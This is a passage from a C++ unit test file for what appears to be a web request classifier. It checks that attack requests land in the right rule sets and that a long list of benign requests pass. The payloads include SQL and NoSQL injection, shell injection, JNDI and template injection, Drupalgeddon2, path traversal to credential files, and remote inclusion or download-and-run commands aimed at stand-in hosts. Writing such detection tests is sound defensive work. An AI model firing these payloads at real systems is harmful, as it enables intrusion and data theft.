    CHECK(set_hit("GET /login?user=*)(uid=*))(|(uid=* HTTP/1.1\r\n") == "protocol");
    // (Not ";cat /etc/hosts": file_access matches it too, and which set a request that two
    // sets match is reported under depends on how the sets are packed into tables.)
    CHECK(set_hit("GET /ping?host=127.0.0.1%3Bcat+/tmp/notes.txt HTTP/1.1\r\n") == "rce");
    CHECK(set_hit("GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://203.0.113.9/a}\r\n\r\n") == "java");
    CHECK(set_hit("GET / HTTP/1.1\r\nUser-Agent: sqlmap/1.7.2#stable\r\n\r\n") == "scanners");
    CHECK(set_hit("GET / HTTP/1.1\r\nUser-Agent: jaeles\r\n\r\n") == "scanners");
    // A tautology of one-letter names, ended by the next query parameter, or in parentheses.
    CHECK(set_hit("GET /search?q=hi+or+a%3Da&page=1 HTTP/1.1\r\n") == "sqli");
    CHECK(set_hit("GET /item?id=1)+or+(a%3Da HTTP/1.1\r\n") == "sqli");
    // A quote closed into an exclusive or.
    CHECK(set_hit("GET /item?id=1%27+xor+%271 HTTP/1.1\r\n") == "sqli");
    // A traversal whose slash is still encoded after decoding: nested (IIS's %%32%66) or
    // triple encoding.
    CHECK(set_hit("GET /get?file=..%%32%66..%%32%66boot.ini HTTP/1.1\r\n") == "traversal");
    CHECK(set_hit("GET /get?file=%2e%2e%25252f%2e%2e%25252fetc HTTP/1.1\r\n") == "traversal");
    // Nashorn named as the package a payload reaches into.
    CHECK(set_hit("GET "
                  "/x?q=%24%7B%27%27.getClass().forName(%27jdk.nashorn.api.scripting."
                  "NashornScriptEngineFactory%27)%7D HTTP/1.1\r\n") == "java");
    // Commands in backticks, closed or with an argument.
    CHECK(set_hit("GET /x?q=%60ifconfig%60 HTTP/1.1\r\n") == "rce");
    CHECK(set_hit("POST /api HTTP/1.1\r\n\r\n{\"n\": \"a`id`b\"}") == "rce");
    // A pipe into a shell, ended by the value's end, an option, a separator or a quote.
    CHECK(set_hit("GET /x?c=echo+aWQK+%7C+base64+-d+%7C+bash HTTP/1.1\r\n") == "rce");
    CHECK(set_hit("GET /x?u=wget+-qO-+203.0.113.9%2Fs%7Csh+-s&p=1 HTTP/1.1\r\n") == "rce");
    CHECK(set_hit("POST /api HTTP/1.1\r\n\r\n{\"u\": \"x|zsh\"}") == "rce");
    // Template tags that read files or modules, and a Windows user profile's files.
    CHECK(set_hit("POST /t HTTP/1.1\r\n\r\nt=%7B%25+import+os+%25%7D%7B%7Bos.name%7D%7D") ==
          "java");
    CHECK(set_hit("POST /t HTTP/1.1\r\n\r\nt=%7B%25+debug+%25%7D") == "java");
    CHECK(set_hit("GET /item?file=C:%5CUsers%5CAdministrator%5CNTUser.dat HTTP/1.1\r\n") ==
          "file_access");
    CHECK(set_hit("GET /item?f=c:/program+files/mysql/my.ini HTTP/1.1\r\n") == "file_access");
    CHECK(set_hit("GET /credentials.json HTTP/1.1\r\n") == "file_access");
    CHECK(set_hit("GET /item?file=../config/database.yml HTTP/1.1\r\n") == "file_access");
    // cmd's FOR loop running a command, typed (%i) and in a batch file (%%d).
    CHECK(set_hit("GET /run?c=x%26for+/f+%25i+in+('whoami')+do+echo+%25i HTTP/1.1\r\n") ==
          "rce_cmd");
    CHECK(
        set_hit("POST /api HTTP/1.1\r\n\r\n{\"c\": \"for /d %%d in (C:\\\\Users\\\\*) do dir\"}") ==
        "rce_cmd");
    // Twig's filters given a PHP function; a superglobal named by a string.
    CHECK(set_hit("GET /t?n=%7B%7B%5B'id'%5D%7Cfilter('system')%7D%7D HTTP/1.1\r\n") == "java");
    CHECK(set_hit("POST /t HTTP/1.1\r\n\r\ntpl={{['uptime']|map('passthru')}}") == "java");
    CHECK(set_hit("GET /x?a=%24%7B'_GET'%7D%5B0%5D() HTTP/1.1\r\n") == "php");
    // A system file's path with self-references ('/./'), which the kernel resolves away.
    CHECK(set_hit("GET /item?file=/etc/./passwd HTTP/1.1\r\n") == "file_access");
    CHECK(set_hit("GET /item?file=%2Fproc%2F.%2Fself%2F.%2Fenviron HTTP/1.1\r\n") == "file_access");
    CHECK(set_hit("GET /item?file=/var/./log/./nginx/access.log HTTP/1.1\r\n") == "file_access");
    CHECK(set_hit("GET /item?file=%5Cwindows%5C.%5Crepair%5Csam HTTP/1.1\r\n") == "file_access");
    // A serialized PHP object, also inside an array (an array of scalars names no class to
    // construct, and passes: a legacy shop's cart cookie, below).
    CHECK(set_hit("GET / HTTP/1.1\r\nCookie: cart=a%3A1%3A%7Bi%3A0%3BO%3A4%3A%22Evil%22%3A0%3A%7B"
                  "%7D%7D\r\n\r\n") == "php");
    // A Windows environment variable, as cmd expands it in an injected command.
    CHECK(set_hit("GET /ping?host=a%26echo+%25USERNAME%25 HTTP/1.1\r\n") == "rce");
    CHECK(set_hit("GET /index.php.bak HTTP/1.1\r\n") == "probes");
    // Tools named in the User-Agent only, and a scanner's marker path.
    CHECK(set_hit(
              "GET / HTTP/1.1\r\nUser-Agent: Mozilla/4.0 (compatible; FHScan Core 1.1)\r\n\r\n") ==
          "scanners");
    CHECK(set_hit("GET / HTTP/1.1\r\nUser-Agent: Toata dragostea mea pentru diavola\r\n\r\n") ==
          "scanners");
    // Scanners that put on a browser's User-Agent still send their own headers, any value.
    const std::string browser =
        "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) "
        "Gecko/20100101 Firefox/128.0\r\n";
    CHECK(set_hit("GET / HTTP/1.1\r\n" + browser + "Acunetix-Product: WVS/12.0\r\n\r\n") ==
          "scanner_headers");
    CHECK(set_hit("GET /login HTTP/1.1\r\nacunetix-aspect: enabled\r\n" + browser + "\r\n") ==
          "scanner_headers");
    CHECK(set_hit("GET / HTTP/1.1\r\n" + browser + "X-Scanner: Netsparker\r\n\r\n") ==
          "scanner_headers");
    CHECK(set_hit("GET / HTTP/1.1\r\nX-WIPP: AscVersion=24.2.0.152\r\n\r\n") == "scanner_headers");
    CHECK(set_hit("POST /cart HTTP/1.1\r\nX-Scan-Memo: Category=\"Audit.Attack\"\r\n\r\nq=1") ==
          "scanner_headers");
    CHECK(set_hit("GET /w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1\r\n") == "probes");
    CHECK(set_hit("GET http://localhost:8080/shop/img/3.gif~ HTTP/1.1\r\n") == "probes");
    CHECK(set_hit("GET /app/settings.yml.bak HTTP/1.1\r\n") == "probes");
    // A path parameter that makes a path look like a page or an asset to an authentication
    // filter (TeamCity's /app/rest/users;.jsp, CVE-2024-27198).
    CHECK(set_hit("GET /hax?jsp=/app/rest/users;.jsp HTTP/1.1\r\n") == "probes");
    CHECK(set_hit("POST /admin/settings;.css HTTP/1.1\r\n\r\nx=1") == "probes");
    // A site's backup by the names bots try, as an archive or a dump.
    CHECK(set_hit("GET /backup.zip HTTP/1.1\r\n") == "probes");
    CHECK(set_hit("GET /www.tar.gz HTTP/1.1\r\n") == "probes");
    CHECK(set_hit("HEAD /public_html.rar HTTP/1.1\r\n") == "probes");
    CHECK(set_hit("GET /old/wordpress.tgz?x=1 HTTP/1.1\r\n") == "probes");
    CHECK(set_hit("GET /db.sql HTTP/1.1\r\n") == "probes");
    CHECK(set_hit("GET /dump.sql.gz HTTP/1.1\r\n") == "probes");
    // Response splitting in a form body, by the headers and lines a request never carries.
    CHECK(set_hit("POST /login HTTP/1.1\r\n\r\nB1=Entrar%0D%0ASet-cookie%3A+Tamper%3D104126") ==
          "protocol");
    CHECK(
        set_hit("POST /c HTTP/1.1\r\n\r\nm=x%0d%0aHTTP/1.1+200+OK%0d%0aContent-Type:+text/html") ==
        "protocol");
    // PHP's settings that let a request include code; a custom-serialised PHP object; an
    // XStream document naming Java classes.
    CHECK(set_hit("GET /index.php?-d+allow_url_include%3D1 HTTP/1.1\r\n") == "php");
    // Drupal's render-array callbacks set from a form or a query (Drupalgeddon2), encoded too.
    CHECK(set_hit("POST /user/register?element_parents=account/mail/%23value&ajax_form=1 "
                  "HTTP/1.1\r\n\r\nform_id=user_register_form&mail[#post_render][]=exec&"
                  "mail[#type]=markup&mail[#markup]=id") == "php");
    CHECK(set_hit("GET /?q=user/password&name%5B%23pre_render%5D%5B%5D=passthru HTTP/1.1\r\n") ==
          "php");
    CHECK(set_hit("GET /p?d=C:11:%22ArrayObject%22:37:%7Bx:i:0;a:0:%7B%7D%7D HTTP/1.1\r\n") ==
          "php");
    CHECK(set_hit("POST /api HTTP/1.1\r\nContent-Type: application/xml\r\n\r\n<map><entry>"
                  "<java.util.PriorityQueue serialization=\"custom\"/></entry></map>") == "java");
    // A SUID search, PowerShell's reconnaissance cmdlets, a program started by cmd's start.
    CHECK(set_hit("GET /p?host=x%3Bfind+/+-perm+-4000+-type+f HTTP/1.1\r\n") == "rce");
    CHECK(set_hit("GET /p?host=x+%7C+Get-Process HTTP/1.1\r\n") == "rce");
    CHECK(set_hit("POST /p HTTP/1.1\r\n\r\nhost=x%26+start+calc.exe") == "rce");
    // Windows' vol, alone after a separator.
    CHECK(set_hit("GET /p?id=2&cantidad=%7Cvol&B1=A HTTP/1.1\r\n") == "rce");
    CHECK(set_hit("POST /p HTTP/1.1\r\n\r\nhost=x%3Bvol+c%3A") == "rce");
    CHECK(set_hit("GET /r?u=%0d%0aSet-Cookie:%20a=b HTTP/1.1\r\n") == "splitting");
    CHECK(set_hit("GET /ping?host=x%3B%2F%3F%3F%3F%2F%3F%3Ft+%2F%3F%3F%3F%2F%3F%3Fss%3F%3F "
                  "HTTP/1.1\r\n") == "shell_evasion");
    CHECK(set_hit("GET /ping?host=x%3B%2Fu%3Fr%2Fb%3Fn%2Fw%3Foami HTTP/1.1\r\n") ==
          "shell_evasion");
    CHECK(set_hit("GET /ping?host=x%3Bi%27f%27c%27onfig HTTP/1.1\r\n") == "shell_evasion");
    CHECK(set_hit("POST /ping HTTP/1.1\r\n\r\nhost=x%26%26who%27%27ami") == "shell_evasion");
    // No scheme: a protocol-relative URL, and a Windows share (its backslashes read as slashes).
    CHECK(set_hit("GET /index.php?page=//evil.example/shell HTTP/1.1\r\n") == "rfi");
    CHECK(set_hit("GET /index.php?file=%5C%5C203.0.113.9%5Cshare%5Cx.php HTTP/1.1\r\n") == "rfi");
    CHECK(
        set_hit("POST /api HTTP/1.1\r\n\r\n{\"include\": \"\\\\\\\\203.0.113.9\\\\x\\\\a.php\"}") ==
        "rfi");
    CHECK(set_hit("GET /index.php?page=data:text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs= "
                  "HTTP/1.1\r\n") == "php");
    CHECK(set_hit("POST /render HTTP/1.1\r\n\r\n{\"name\": \"${{<%[%'\\\"}}%\\\\.\"}") == "java");
    CHECK(set_hit("GET /hello?name=%7B%7B%3C%25%5B%25 HTTP/1.1\r\n") == "java");
    // Prototype pollution in a query's names and a JSON body; code given to a NoSQL $where
    // after a closed quote; Node's process object from an expression.
    CHECK(set_hit("GET /p?__proto__[isAdmin]=true HTTP/1.1\r\n") == "java");
    CHECK(set_hit("GET /p?constructor[prototype][isAdmin]=1 HTTP/1.1\r\n") == "java");
    CHECK(set_hit("POST /api HTTP/1.1\r\n\r\n{\"constructor\": {\"prototype\": {\"a\": 1}}}") ==
          "java");
    CHECK(set_hit("GET /u?name=x%27%3Breturn+true%3Bvar+y%3D%27 HTTP/1.1\r\n") == "sqli");
    CHECK(set_hit("POST /login HTTP/1.1\r\n\r\nuser=admin%27+%26%26+this.password.match(/.*/)//") ==
          "sqli");
    CHECK(set_hit("GET /p?x=global.process.exit() HTTP/1.1\r\n") == "rce");
    // A Thymeleaf selection expression and Twig's _self; LDAP's filter that is always true.
    CHECK(set_hit("GET /p?x=*%7B7*7%7D HTTP/1.1\r\n") == "java");
    CHECK(set_hit("GET /p?x=%7B%7B_self.env.registerUndefinedFilterCallback(%22exec%22)%7D%7D "
                  "HTTP/1.1\r\n") == "java");
    CHECK(set_hit("GET /login?user=admin)(%26) HTTP/1.1\r\n") == "protocol");
    // A filter closed and a NOT opened after it (its operand another operator, not only an
    // attribute); an XPath predicate closed after a parenthesis, then a union.
    CHECK(set_hit("GET /login?user=admin)(!(%26(1=0) HTTP/1.1\r\n") == "protocol");
    CHECK(set_hit("POST /login HTTP/1.1\r\n\r\nuser=x)(!(cn=*)") == "protocol");
    CHECK(set_hit("GET /users?name=%27)]+|+//*+|+//*[(%27 HTTP/1.1\r\n") == "protocol");
    // Ruby's %x(), a command found by which inside $(), CGI's test script.
    CHECK(set_hit("GET /p?x=%25x(id) HTTP/1.1\r\n") == "rce");
    CHECK(set_hit("GET /p?x=a;$(which+id) HTTP/1.1\r\n") == "rce");
    CHECK(set_hit("GET /cgi-bin/test-cgi HTTP/1.1\r\n") == "probes");
    CHECK(set_hit("GET /p?x=cat+%60ls%60 HTTP/1.1\r\n") == "rce");
    // PowerShell's iex before what it runs, and after a pipe.
    CHECK(set_hit("GET /p?c=IEX+(New-Object+Net.WebClient).DownloadString(%27x%27) HTTP/1.1\r\n") ==
          "rce");
    CHECK(set_hit("GET /p?c=x%7C+iex HTTP/1.1\r\n") == "rce");
    // A NoSQL operator given to a login form's field.
    CHECK(set_hit("POST /login HTTP/1.1\r\n\r\nuser=admin&password[%24regex]=%5Ea") == "sqli");
    // ... in a JSON body: $ne against anything, a comparison against nothing (nosql).
    CHECK(
        set_hit("POST /login HTTP/1.1\r\n\r\n{\"user\": \"admin\", \"password\": {\"$ne\": 1}}") ==
        "sqli");
    CHECK(set_hit("POST /login HTTP/1.1\r\n\r\n{\"user\": {\"$gt\": \"\"}, \"password\": "
                  "{\"$gt\": \"\"}}") == "nosql");
    CHECK(set_hit("POST /login HTTP/1.1\r\n\r\n{\"password\": {\"$lte\": null}}") == "nosql");
    CHECK(set_hit("POST /login HTTP/1.1\r\n\r\n{\"password\": {\"$gte\" : undefined}}") == "nosql");
    CHECK(set_hit("GET /item?id={%22$lt%22:%20{}} HTTP/1.1\r\n") == "nosql");
    // A file URL into a system directory, a Windows system folder, a home's dot-directory.
    CHECK(set_hit("GET /fetch?url=file:///proc/self/environ HTTP/1.1\r\n") == "file_access");
    CHECK(set_hit("GET /fetch?url=file:///C:/Windows/win.ini HTTP/1.1\r\n") == "file_access");
    CHECK(set_hit("GET /fetch?url=file:///home/app/.ssh/id_rsa HTTP/1.1\r\n") == "file_access");
    // Functions called with a space before the parenthesis.
    CHECK(set_hit("GET /p?q=%3Cimg+src=x+onerror=alert+(document.cookie)%3E HTTP/1.1\r\n") ==
          "xss");
    CHECK(set_hit("GET /p?q=x%27%3Bprompt+(1)// HTTP/1.1\r\n") == "xss");
    CHECK(set_hit("GET /p?c=system+(%22id%22)%3B HTTP/1.1\r\n") == "php");
    // Commands that are English words too, with an attacker's arguments.
    CHECK(set_hit("GET /p?h=x%7Cps+aux HTTP/1.1\r\n") == "rce");
    CHECK(set_hit("GET /p?h=x%3Bping+evil.example&n=1 HTTP/1.1\r\n") == "rce");
    CHECK(set_hit("GET /p?h=x%3Bsleep+10 HTTP/1.1\r\n") == "rce");
    CHECK(set_hit("GET /p?h=x%7Cnet+user HTTP/1.1\r\n") == "rce");
    CHECK(set_hit("GET /p?h=x%26+ver HTTP/1.1\r\n") == "rce");
    // Blind SQL injection's functions after AND/OR, with a space before the parenthesis too.
    CHECK(set_hit("GET /p?id=1%27+and+if+(1%3D1,sleep(5),0)--+- HTTP/1.1\r\n") == "sqli");
    CHECK(set_hit("GET /p?id=%27+or+not+1%3D2-- HTTP/1.1\r\n") == "sqli");
    CHECK(set_hit("GET /p?id=1+and+length(database())%3E5 HTTP/1.1\r\n") == "sqli");
    // A Windows command at the end of a header's value (the CR after it reads as a space).
    CHECK(set_hit("GET / HTTP/1.1\r\nReferer: https://a.example/?q=%26+systeminfo\r\n\r\n") ==
          "rce");
    // A body behind 600 bytes of browser headers is scanned too.
    std::string post =
        "POST /comment HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: " + std::string(500, 'M') +
        "\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "text=%3Csvg%2Fonload%3Dalert(1)%3E";
    CHECK(set_hit(post) == "xss");
    for (auto ok :
         {"GET / HTTP/1.1\r\nHost: example\r\n\r\n", "GET /api/health HTTP/1.1\r\n",
          "POST /api/session/start HTTP/1.1\r\nContent-Length: 2\r\n\r\n{}",
          "GET /docs/select-a-union-plan.html HTTP/1.1\r\n",
          "GET /search?q=rock+%26+roll%3B+the+cat%27s+toy HTTP/1.1\r\n",
          // Numbers, "or" and "true" in prose, not a comparison.
          "GET /search?q=step+1+or+2+is+true HTTP/1.1\r\n",
          // PHP functions and magic methods named in prose and searches, a method override,
          // "think" in a path, execute() of an object, an Exchange autodiscover request.
          "GET /search?q=system&tags[]=exec+summary&_method=put HTTP/1.1\r\n",
          "GET /docs?q=__construct+vs+__destruct&f[]=systems HTTP/1.1\r\n",
          "POST /contact HTTP/1.1\r\n\r\nmsg=we+rethink%2Fapp+design+and+think%2Fapply+it",
          "POST /api HTTP/1.1\r\n\r\n{\"code\": \"query.execute()\"}",
          "GET /autodiscover/autodiscover.xml HTTP/1.1\r\n",
          // JSON in a JSON string: its escaped slashes read as four.
          "POST /api HTTP/1.1\r\n\r\n{\"hook\": "
          "\"{\\\"url\\\":\\\"https:\\\\/\\\\/example.com\\\"}\"}",
          // Not paths, not split words: double question marks after a slash, quotes in prose.
          "GET /shop??utm_source=mail HTTP/1.1\r\n", "GET /index.php?/catalog/shoes HTTP/1.1\r\n",
          "POST /contact HTTP/1.1\r\n\r\nmsg=In+black%2Fwhite%3F%3F+Sizes+S%2FM%3F+or+M%2FL%3F",
          "POST /contact "
          "HTTP/1.1\r\n\r\nmsg=rock%27n%27roll%2C+%27a%27+or+%27b%27%2C+said+%22%22hi%22%22",
          "POST /contact HTTP/1.1\r\n\r\nmsg=I%27d+like+to+select+one+from+your+union+shop",
          // LIKE between numbers in prose, an update that sets no column, <link> named.
          "POST /contact HTTP/1.1\r\n\r\nmsg=I+like+1+or+2+like+3+of+them",
          "POST /contact HTTP/1.1\r\n\r\nmsg=profile%3B+update+notes+set+to+private",
          "GET /search?q=%3Clink%3E+is+an+HTML+element&p=the+__FILE__+constant HTTP/1.1\r\n",
          // Grouping and ordering in prose, with numbers, no comment after them.
          "POST /contact HTTP/1.1\r\n\r\nmsg=Please+group+by+2+or+3+and+order+by+10%2C+thanks",
          // Comments in code, a path value, templates of one language, a GitHub Actions
          // expression, base64 that is not a script, a protocol-relative URL in a text field.
          "POST /api/snippets HTTP/1.1\r\n\r\n{\"content\": \"//TODO: fix.this/later\", "
          "\"path\": \"/srv/app/main.py\"}",
          "POST /api/templates HTTP/1.1\r\n\r\n{\"body\": \"{{#each items}}{{name}}{{/each}} "
          "{{{raw}}} <%= user.name %>\", \"ci\": \"${{ secrets.TOKEN }}\"}",
          "POST /api/avatar HTTP/1.1\r\n\r\n{\"img\": "
          "\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk\"}",
          "POST /contact HTTP/1.1\r\n\r\nmsg=see+%2F%2Fcdn.example.com%2Fa.js+please",
          // A path parameter after a file name, and parentheses after a wildcard in a search.
          "GET /files/notes.txt;jsessionid=0a1b HTTP/1.1\r\nCookie: last=/docs/a.txt; x=1\r\n\r\n",
          "GET /search?q=(oak*)(chair)+(walnut) HTTP/1.1\r\n",
          // The twins of the LDAP and XPath rules above: a smiley after a parenthesis, a
          // bracketed quote in code with no path after the bar.
          "POST /contact HTTP/1.1\r\n\r\nmsg=Thanks+(really)(!)+see+you+(soon)",
          "POST /api/snippets HTTP/1.1\r\n\r\n{\"code\": \"x = m[')'] | 0; // mask\"}",
          // user() in code, not compared.
          "POST /api/snippets HTTP/1.1\r\n\r\n{\"code\": \"if ($a and user()) { echo "
          "user()->name; }\"}",
          // Characters a form's charset lacks, sent by the browser as character references;
          // arithmetic after "and" in prose, with no comparison.
          "GET /search?q=%26%231087%3B%26%231088%3B%26%231080%3B%26%231074%3B%26%23x43f%3B "
          "HTTP/1.1\r\n",
          "POST /contact HTTP/1.1\r\n\r\nmsg=rooms+2+and+3*4+metres%2C+or+5-6+people",
          // A text area's lines that start with a command's name, or are one after raw CR LF
          // (a multipart field's value); a semicolon, then "update" in prose.
          "POST /contact HTTP/1.1\r\n\r\nmsg=Hello%2C%0D%0AId+like+a+refund.%0D%0ASleep+8+hours"
          "+did+not+help%0D%0Ahostname%3A+web-1%0D%0Aid%2C+name%2C+email%0D%0Aps+thanks",
          "POST /upload HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=b\r\n\r\n--b\r\n"
          "Content-Disposition: form-data; name=\"cmd\"\r\n\r\nid\r\n--b--\r\n",
          "POST /contact HTTP/1.1\r\n\r\nmsg=It+was+late%3B+update+me+when+it+ships",
          // Location and Content-Type after a newline in a message, a multipart part's headers.
          "POST /contact HTTP/1.1\r\n\r\nmsg=Hello%0D%0ALocation%3A+Madrid%0D%0AContent-Type%3A+"
          "gift&x=set-cookie+policy",
          "POST /upload HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=b\r\n\r\n--b\r\n"
          "Content-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\nContent-Type: "
          "image/png\r\n\r\nPNG\r\n--b--\r\n",
          // print() in code, a newline entity before a word and a colon, a constructor named.
          "POST /api/snippets HTTP/1.1\r\n\r\n{\"code\": \"print()\", \"note\": "
          "\"line&#10;script: run it; the constructor.constructor property\"}",
          // "where" after a quote in prose, hex colours and numbers after "and".
          "POST /contact HTTP/1.1\r\n\r\nmsg=the+%27blue%27+where+I+live%2C+0x41+and+0x42+"
          "and+color+0x1f2f3f",
          // URLs to hosts whose names start with 0, and a number after a port.
          "GET /go?u=http://0day.example/a&v=https://example.com:017700000001/ HTTP/1.1\r\n",
          // A user's directory, a tilde in a query, a source map.
          "GET /~ana/index.html?r=~1&m=/static/app.css.map HTTP/1.1\r\n",
          // A setting's name in prose, a drive letter, an XML element named like a package.
          "POST /contact HTTP/1.1\r\n\r\nmsg=Is+allow_url_include+on%3F+See+C:11+and+"
          "%3Cjava-version%3E17%3C/java-version%3E",
          // find, get- and start in prose.
          "POST /contact HTTP/1.1\r\n\r\nmsg=Use+find+%2F+replace%3B+then+start+the+notepad+"
          "app+%26+get-together+at+5",
          // A scanner's name outside the User-Agent (a search, a Referer), "vol" as a volume.
          "GET /search?q=sqlmap+fhscan+email+extractor HTTP/1.1\r\nReferer: "
          "https://example.com/?q=nikto\r\n\r\n",
          "POST /cite HTTP/1.1\r\n\r\nref=Nature%3B+vol+12%3B+pp.+3-9&vol=4&x=%7Cvolume",
          // "sleep" and a number in prose (a newline after them reads as a space, so a rule
          // cannot end at one); JavaScript's words, quotes and "return" in prose and code.
          "GET /search?q=sleep+5+hours+a+night HTTP/1.1\r\n",
          "POST /contact HTTP/1.1\r\n\r\nmsg=I+sleep+8%0D%0Ahours",
          // Strapi's query filters: MongoDB-style operators nested in brackets.
          "GET /api/articles?filters[title][$eq]=hello&filters[$or][0][price][$lt]=100&"
          "populate=* HTTP/1.1\r\n",
          // Words that are also functions' names, before a parenthesis in prose.
          "POST /ticket HTTP/1.1\r\n\r\nmsg=My+system+(Windows+11)+crashes%3B+the+alert+(red)+"
          "light%2C+the+prompt+(optional)+field%2C+eval+(see+below)+and+3+alert(s)",
          // English words that are also commands, after ';', '|' and '&&' in prose.
          "POST /review HTTP/1.1\r\n\r\nmsg=I+have+a+dog%3B+cat+food+is+for+my+other+pet%3B+"
          "long+flight%3B+sleep+(finally)%3B+ping+me+tomorrow%3B+dig+in%3B+Java%3B+Ruby+and+Perl",
          "GET /search?q=server+down+%7C+reboot+Monday+%26%26+cat+videos%3B+zip+it%3B+tar+roof "
          "HTTP/1.1\r\n",
          // A quoted word, then "and"/"or" and a word SQL also has, in a help desk's prose; a
          // parenthesis after words that are SQL functions too.
          "POST /ticket HTTP/1.1\r\n\r\nmsg=Click+%22Edit%22+and+select+%22Copy%22%2C+then+"
          "go+to+%27Settings%27+and+select+%27Privacy%27",
          "GET /search?q=whether+it+is+%27fair%27+or+not+is+debatable HTTP/1.1\r\n",
          "POST /ticket HTTP/1.1\r\n\r\nmsg=Press+OK+and+if+(prompted)+enter+your+PIN%3B+I+"
          "need+sleep+(8+hours)%3B+our+benchmark+(2024)+results",
          // An English word that is also a command, before quoted text (the GPL's notice).
          "POST /contact HTTP/1.1\r\n\r\nmsg=for+details+type+%60show+w%27.",
          "POST /api/snippets HTTP/1.1\r\n\r\n{\"note\": \"the prototype of the constructor; "
          "process the order; it's 'x'; return it && this one\", "
          "\"code\": \"var a = 'x'; return a;\"}",
          "GET /search?q=tom+(and)+jerry+(%26)+co HTTP/1.1\r\n",
          "GET /search?q=100%25x(2)+and+*%7Bnote%7D HTTP/1.1\r\n",
          // One character code in prose; a quoted setting and a hashtag; a program named in
          // quotes; a where clause's name; a percentage sign beside a word.
          "POST /contact HTTP/1.1\r\n\r\nmsg=use+CHAR(10)+for+a+newline%2C+chr(13)+too",
          "GET /search?q=%22size%22%3D10+%23shoes+-+sale HTTP/1.1\r\n",
          "POST /contact HTTP/1.1\r\n\r\nmsg=I+want+to+program+%27snake%27+(the+game)",
          "POST /api/snippets HTTP/1.1\r\n\r\n{\"doc\": \"the $where operator, 50% off, %d "
          "items\"}",
          "GET /search?q=5%25+temp+and+100%25 HTTP/1.1\r\n",
          // Markdown: command-line flags and a directive in backticks, a flag in quotes
          // (technical comments, issue trackers).
          "POST /comment "
          "HTTP/1.1\r\n\r\nmsg=Run+%60npm+ci%60+with+%60--force%60+or+%60--omit%3Ddev%60"
          "%3B+%60%23include%60+and+%27--help%27+too",
          "POST /api/comments HTTP/1.1\r\n\r\n{\"body\": \"```bash\\nnpm install\\n```\\nthen "
          "```sh\\nmake\\n``` and `python3 app.py`\"}",
          "POST /comment HTTP/1.1\r\n\r\nmsg=%60%60%60bash%0D%0Anpm+install%0D%0A%60%60%60+then+"
          "%60%60%60sh%0Amake%0A%60%60%60",
          // A comparison of one letter in parentheses, and one after "or" that goes on.
          "POST /contact HTTP/1.1\r\n\r\nmsg=sizes+S+and+(M%3D10+cm)&q=either+x+or+y%3Dz2&p=1",
          // Exclusive or named in prose, quoted and not.
          "POST /contact HTTP/1.1\r\n\r\nmsg=the+%27xor%27+gate%3B+a+xor+b",
          // An encoded slash after one dot, two dots before a digit.
          "GET /search?q=1.5%252F2+and+2..3 HTTP/1.1\r\n",
          // The German word for rhinoceros (Nashorn, also a Java script engine's name) in a
          // product text; Python's HTTP client (httpx, also a scanner's name) as a User-Agent.
          "POST /api/products HTTP/1.1\r\n\r\n{\"desc\": \"Die Nashorn-Figur aus Holz. Ein Nashorn "
          "ist grau\"}",
          "GET /api/v1/items HTTP/1.1\r\nUser-Agent: python-httpx/0.27.0\r\n\r\n",
          // A Drupal developer's question: a render array's key in PHP code, quoted.
          "POST /forum HTTP/1.1\r\n\r\nmsg=Why+does+%24el%5B%27%23post_render%27%5D%5B%5D+%3D+"
          "%27my_cb%27%3B+never+run%3F+%23pre_render+works",
          // XML bodies: an Atom entry's escaped HTML with a link and code (undecoded, its
          // '&lt;a ' read as an entity-encoded tag, '&amp; id cards' as a command); a SOAP note
          // with quotes and an ampersand.
          "POST /feed HTTP/1.1\r\n\r\n<entry><content type=\"html\">&lt;p&gt;See &lt;a href=\""
          "https://example.org/x?a=1&amp;amp;b=2\"&gt;this&lt;/a&gt; or &lt;code&gt;if (a "
          "&amp;amp;&amp;amp; b)&lt;/code&gt; for R&amp;D &amp; id "
          "cards&lt;/p&gt;</content></entry>",
          "POST /ws HTTP/1.1\r\n\r\n<note>O&apos;Brien wrote &quot;thanks&quot; &amp; left; "
          "the &lt;b&gt; size</note>",
          // Markdown: a line that ends in a quote or backtick, then a heading or a rule (the
          // JSON string's \\n, a text area's %0A).
          "POST /api/issues HTTP/1.1\r\n\r\n{\"body\": \"Set `CATCH_BUILD_TESTING`\\n# Building\\n"
          "const char c = 'c';\\n---\\nthanks\"}",
          "POST /comment HTTP/1.1\r\n\r\nmsg=It%27s+%27fine%27%0D%0A%23+Notes%0D%0A--+me",
          // A JSON review's lines: a line that starts with a command's name and goes on.
          "POST /api/reviews HTTP/1.1\r\n\r\n{\"comment\": \"Great!\\nId like two more.\\nSleep "
          "8 hours, env. friendly\\nID: 12345\", \"path\": \"C:\\\\new\\\\id\"}",
          // Page titles sent by analytics beacons: "Page | Site", the site's name starting
          // with "sh" (Shop, Shell, Sheffield).
          "POST /collect HTTP/1.1\r\n\r\nv=2&dt=Checkout+-+Payment+%7C+Shop&dl=https%3A%2F%2F"
          "shop.example%2F",
          "GET /g/collect?v=2&dt=News+%7C+Sheffield+United&en=page_view HTTP/1.1\r\n",
          "GET /g/collect?v=2&dt=Home+%7C+Shell+Energy HTTP/1.1\r\n",
          // A shop theme's template editor: loops, conditions and assignments.
          "POST /admin/theme HTTP/1.1\r\n\r\ntemplate=%7B%25+for+p+in+products+%25%7D%7B%7B+"
          "p.title+%7D%7D%7B%25+endfor+%25%7D%7B%25+if+customer+%25%7DHi%7B%25+endif+%25%7D%7B%25"
          "+set+total+%3D+0+%25%7D",
          // A single-page app's runtime configuration; a JSON mock server's data.
          "GET /config.json HTTP/1.1\r\n", "GET /assets/config.json HTTP/1.1\r\n",
          "GET /db.json HTTP/1.1\r\n",
          // A support request's Windows paths: a user's profile, an installation folder.
          "POST /support HTTP/1.1\r\n\r\nmsg=It+crashes%3A+C%3A%5CUsers%5Canna%5CAppData%5CLocal"
          "%5CTemp%5Csetup.log%3B+installed+to+C%3A%5CProgram+Files+(x86)%5CAcme",
          // A legacy PHP shop's cart: a serialized array of strings in a cookie.
          "GET / HTTP/1.1\r\nCookie: PHPSESSID=abc; "
